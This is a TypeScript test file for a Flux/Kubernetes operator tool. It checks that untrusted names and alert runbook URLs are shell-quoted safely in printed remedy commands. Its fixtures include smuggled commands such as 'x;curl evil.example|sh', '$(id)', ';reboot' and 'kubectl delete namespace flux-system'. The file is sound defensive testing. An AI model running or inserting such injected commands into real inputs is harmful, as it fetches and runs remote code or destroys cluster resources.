import { expect, onTestFinished, test } from 'vitest'
import { createServer } from 'node:http'
import { listenOn } from '../../lab/ports.ts'
import { OperatorError } from '../../lib/base/errors.ts'
import { removalOf } from '../../lib/flux/installations.ts'
import { fluxKinds } from '../../lib/flux/kinds.ts'
import { parseFluxObject } from '../../lib/flux/object.ts'
import { alerts } from '../../lib/health/probes/alerts.ts'
import { secrets } from '../../lib/health/probes/secrets.ts'
import { createSnapshot } from '../../lib/health/snapshot.ts'
import { kinds, parseObject } from '../../lib/kubernetes/objects.ts'
import { clusterAt } from '../../lib/kubernetes/client.ts'
import { socketEndpoint } from '../../lib/kubernetes/transport.ts'
import { askWeb } from '../../lib/tools/http-client.ts'
import { findArtifact } from '../../lib/tools/registry.ts'

const evil = 'x;curl evil.example|sh'

async function remedyOf(asking: Promise<unknown>): Promise<string> {
  const error: unknown = await asking.catch((thrown: unknown) => thrown)
  return error instanceof OperatorError ? (error.remedy ?? '') : String(error)
}

// A person pastes what is printed after an arrow.
test('a name from Git is one word of the command that is printed', async () => {
  const { signal } = new AbortController()
  expect(await remedyOf(findArtifact({ host: '127.0.0.1:1', repository: evil, reference: 'a' }, {}, signal))).toBe(
    `curl -I 'http://127.0.0.1:1/v2/${evil}/manifests/a'`,
  )
  expect(await remedyOf(askWeb(`http://127.0.0.1:1/${evil}`, {}))).toBe('curl --verbose --head http://127.0.0.1:1')
  expect(await remedyOf(askWeb('http://$(id).invalid/', { deadline: 100 }))).toBe("curl --verbose --head 'http://$(id).invalid'")
})

test('a Secret that a tenant names, and that does not exist, is one word of the command that would create it', async () => {
  const object = { metadata: { namespace: 'team', name: 'a' }, spec: { secretRef: { name: evil } } }
  const source = parseFluxObject(object, fluxKinds.gitRepository, true)
  const patience = { milliseconds: 0, trouble: () => undefined, over: () => undefined }
  const cluster = {
    ...clusterAt(socketEndpoint('/nowhere'), patience, new AbortController().signal),
    collection: () => Promise.resolve('/api/v1/secrets?'),
    read: () => Promise.resolve({ metadata: {}, items: [] }),
  }
  const options = { cluster, kubectl: 'kubectl', where: '--lab', login: { kind: 'none' } as const, folder: () => '', monitoring: undefined }
  const found = await secrets.check({
    ...createSnapshot(options),
    instance: () => Promise.resolve(undefined),
    objects: () => Promise.resolve({ all: [source], byName: new Map(), kinds: new Set() }),
  })
  expect(found.objects?.map(({ next }) => next)).toEqual([
    `kubectl --namespace team create secret generic '${evil}' --from-file=KEY=FILE; or from a capture: npx zx scripts/restore.ts --lab --from FILE`,
  ])
})

test('the release that a Deployment says it belongs to is one word of the command that forgets it', () => {
  const annotations = { 'meta.helm.sh/release-name': evil, 'meta.helm.sh/release-namespace': 'team' }
  const deployment = parseObject({ ...kinds.deployment, metadata: { name: 'source-controller', namespace: 'team', annotations } })
  expect(removalOf([deployment], 'team')).toBe(
    `kubectl --namespace team delete deployments source-controller && kubectl --namespace team delete secrets --selector 'owner=helm,name=${evil}'   # never helm uninstall or flux uninstall: that deletes the CRDs, and every object of Flux with them`,
  )
})

test.each([
  ['kubectl delete namespace flux-system', undefined],
  ['https://a.example/b; curl evil.example|sh', undefined],
  ['https://a.example/b', 'https://a.example/b'],
  ['https://a.example/b;reboot', "'https://a.example/b;reboot'"],
])('what an alert names as its runbook is what is to be done next where it is an address: %s', async (named, next) => {
  const firing = { labels: { alertname: 'FluxDown' }, annotations: { runbook_url: named }, state: 'firing' }
  const server = createServer((_, response) => void response.end(JSON.stringify({ data: { alerts: [firing] } })))
  const monitoring = `http://127.0.0.1:${await listenOn(server, 0)}`
  onTestFinished(() => void server.close())
  const { signal } = new AbortController()
  const snapshot = { monitoring, namespace: () => Promise.resolve('flux-system'), cluster: { signal } }
  const found = await alerts.check(Object.assign(Object.create(null), snapshot))
  expect(JSON.stringify(found)).toContain(JSON.stringify(next ?? `${monitoring}/api/v1/alerts`))
  expect(JSON.stringify(found)).not.toContain('kubectl')
  expect(JSON.stringify(found)).not.toContain('|sh')
})
